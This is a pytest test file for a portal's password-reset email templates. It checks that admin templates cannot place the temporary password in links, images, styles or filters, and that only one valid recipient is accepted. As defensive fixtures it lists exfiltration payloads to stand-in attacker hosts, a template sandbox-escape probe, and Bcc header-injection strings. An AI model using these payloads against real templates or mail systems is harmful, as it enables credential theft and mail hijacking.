"""The temporary password goes only into a fixed, escaped slot in the mail's text: an admin's template cannot move
it into a link, an image address, an attribute or a filter, and mail goes to exactly one checked address."""
import pytest

from portal import mail
from portal.exceptions import MailError, ValidationError

DEFAULT = mail.DEFAULT_TEMPLATES["password_reset"]
VALUES = {"name": "Alex", "ticket": 7, "portal_url": "https://portal.example/", "organisation": "Contoso",
          mail.SLOT: "Pw<&>'\"1x"}
ATTACKS = {
    "image with urlencode": '<img src="https://attacker.test/?p={{ temporary_password | urlencode }}">',
    "image plain": '<img src="https://attacker.test/?p={{ temporary_password }}">',
    "link": '<a href="https://attacker.test/{{ temporary_password }}">help</a>',
    "style": "<style>body{background:url(https://attacker.test/{{ temporary_password }})}</style>",
    "comment": "<!-- {{ temporary_password }} -->",
    "filter": "{{ temporary_password | upper }}",
    "slice": "{{ temporary_password[1:] }}",
    "join": "{{ temporary_password | list | join('-') }}",
    "bare URL in a paragraph": "<p>Check: https://attacker.example/?p={{ temporary_password }}</p>",
    "mailto in a paragraph": "<p>mailto:x@attacker.example?body={{ temporary_password }}</p>",
    "URL split by inline markup": "<p>https://attacker.example/<b>?p=</b>{{ temporary_password }}x</p>",
}
TEXT_ATTACKS = ["Go to https://attacker.example/?p={{ temporary_password }}", "{{ temporary_password }}@attacker.example",
                "https://attacker.example/p:{{ temporary_password }}", "https://attacker.example/?p=({{ temporary_password }})",
                "Hello {{ name }}"]
BROKEN = ["{{ ''.__class__.__mro__ }} {{ temporary_password }}", "{{ foo.bar.baz }} {{ temporary_password }}",
          "{{ 1/0 }} {{ temporary_password }}"]


@pytest.mark.parametrize("extra", ATTACKS.values(), ids=ATTACKS.keys())
def test_attack_templates_are_refused_when_saved(extra):
    """The exact template from the attack report, and its cousins, are refused with a message that says why."""
    with pytest.raises(ValidationError, match="temporary password"):
        mail.validate_template(dict(DEFAULT, html=DEFAULT["html"] + extra))


@pytest.mark.parametrize("extra", ATTACKS.values(), ids=ATTACKS.keys())
def test_a_stored_attack_template_never_renders_the_password(extra):
    """Even a template stored before this check existed cannot carry the password anywhere: rendering refuses, and
    the password is in no part of anything produced."""
    template = dict(DEFAULT, html=DEFAULT["html"] + extra)
    with pytest.raises(MailError):
        mail.render(template, VALUES)


@pytest.mark.parametrize("text", TEXT_ATTACKS)
def test_text_body_refuses_the_password_inside_a_url(text):
    """In the text body the password must stand as a word of its own (only punctuation may touch it), never as part
    of an address that a mail client would turn into a link."""
    with pytest.raises(ValidationError, match="temporary password"):
        mail.validate_template(dict(DEFAULT, text=text))


@pytest.mark.parametrize("text", BROKEN)
def test_a_template_that_fails_when_filled_in_is_refused_not_crashed(text):
    """Sandbox refusals, undefined names and arithmetic errors are a clear message, not a 500."""
    with pytest.raises(ValidationError, match="fails when it is filled in"):
        mail.validate_template(dict(DEFAULT, text=text))


def test_punctuation_around_the_password_is_fine():
    """'Your password is (X).' is a sentence, not a link."""
    mail.validate_template(dict(DEFAULT, text="Hello {{ name }}, your password is ({{ temporary_password }})."))


def test_subject_may_not_carry_the_password():
    """Subjects show up in notifications and lock screens."""
    with pytest.raises(ValidationError, match="subject"):
        mail.validate_template(dict(DEFAULT, subject="Your password {{ temporary_password }}"))


def test_default_template_shows_the_password_escaped_in_text_and_html():
    """The product's slot: the password appears once in each body, HTML-escaped in the HTML one, nowhere else."""
    subject, text, html = mail.render(DEFAULT, VALUES)
    password = VALUES[mail.SLOT]
    assert password not in subject
    assert text.count(password) == 1
    assert html.count("Pw&lt;&amp;&gt;&#x27;&#34;1x") + html.count("Pw&lt;&amp;&gt;&#39;&#34;1x") + \
        html.count("Pw&lt;&amp;&gt;&#x27;&quot;1x") == 1
    assert password not in html


@pytest.mark.parametrize("to", ["victim@contoso.test, attacker@evil.test", "victim@contoso.test\r\nBcc: a@evil.test",
                                "victim@contoso.test;attacker@evil.test", "", None, 42, "no-at-sign"])
def test_only_one_valid_recipient_is_accepted(to):
    """A synced 'mail' value with two addresses or a header break is refused before any SMTP traffic."""
    with pytest.raises(MailError, match="not one valid email address"):
        mail.single_recipient(to)


def test_a_plain_address_passes():
    """The normal case keeps working (and comes back normalised)."""
    assert mail.single_recipient("Alex.Doe@Contoso.onmicrosoft.com") == "Alex.Doe@contoso.onmicrosoft.com"
